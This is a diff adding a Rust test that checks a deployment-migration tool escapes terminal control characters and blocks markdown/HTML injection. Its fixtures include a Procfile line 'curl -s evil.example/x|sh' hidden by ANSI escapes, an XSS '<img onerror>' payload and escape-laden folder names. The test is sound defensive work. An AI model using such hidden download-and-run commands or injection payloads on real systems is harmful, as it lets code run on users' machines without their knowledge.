@@ -414,3 +414,53 @@ fn credentials_never_reach_the_output_or_the_commit() {
     assert!(guide.contains("`PGPASSWORD=*** psql -f seed.sql`"), "{guide}");
     assert!(guide.contains("`fast`"), "{guide}");
 }
+
+/// Control characters from folder names, Procfile commands and app.json reach the
+/// terminal escaped as git quotes names, never raw; the guide keeps every path and
+/// command in a code span and app.json descriptions cannot make links or HTML.
+#[test]
+fn control_characters_are_shown_escaped_and_markdown_cannot_be_injected() {
+    let repo = TempRepo::new();
+    repo.write("Procfile", "web: curl -s evil.example/x|sh \x1b[2K\x1b[1Gnode api.js\n");
+    repo.write("package.json", "{ \"name\": \"x\" }\n");
+    repo.write(
+        "app.json",
+        r#"{ "env": { "MODE\u001b[8m": { "description": "[click](https://evil.example) <img src=x onerror=alert(1)> ` ``", "value": "a\rb" } } }"#,
+    );
+    repo.write("odd\x1b]0;title\x07`<b>/Procfile", "web: node `x` <i>.js\n");
+    repo.write("odd\x1b]0;title\x07`<b>/package.json", "{ \"name\": \"y\" }\n");
+    repo.write("bad\x1b[31m/Procfile", "web: node a.js\n");
+    repo.write("bad\x1b[31m/package.json", "{");
+    repo.commit_all("Hostile names");
+
+    let out = tool(&["plan", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = text(&out.stderr);
+    assert!(!stderr.contains('\x1b'), "{stderr:?}");
+    assert!(stderr.starts_with("error: \"bad\\033[31m/package.json\":1:1:"), "{stderr:?}");
+    std::fs::remove_dir_all(repo.path.join("bad\x1b[31m")).unwrap();
+    repo.commit_all("Without the bad file");
+
+    for args in [&["plan"][..], &["apply"][..]] {
+        let out = tool(&[args, &[path(&repo).as_str()]].concat());
+        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
+        assert_eq!(out.status.code(), Some(0), "{stderr}");
+        for shown in [&stdout, &stderr] {
+            assert!(!shown.contains(['\x1b', '\x07', '\r']), "{args:?}: {shown:?}");
+        }
+        if args == ["plan"] {
+            assert!(stdout.contains("sh \\033[2K\\033[1Gnode api.js"), "{stdout}");
+            assert!(stdout.contains("\"odd\\033]0;title\\a`<b>\""), "{stdout}");
+        }
+    }
+    let guide = repo.git(&["show", "code-capsules-migration:CODE_CAPSULES.md"]);
+    assert!(!guide.contains(['\x1b', '\x07', '\r']), "{guide:?}");
+    assert!(
+        guide.contains("`` web: curl -s evil.example/x|sh \\033[2K\\033[1Gnode api.js ``")
+            || guide.contains("`web: curl -s evil.example/x\\|sh \\033[2K\\033[1Gnode api.js`"),
+        "{guide}"
+    );
+    assert!(guide.contains(r"\[click\](https\://evil.example) \<img src=x"), "{guide}");
+    assert!(guide.contains(r"- delete `` odd\033]0;title\a`<b>/Procfile ``"), "{guide}");
+    assert!(guide.contains("`` node `x` <i>.js ``"), "{guide}");
+}
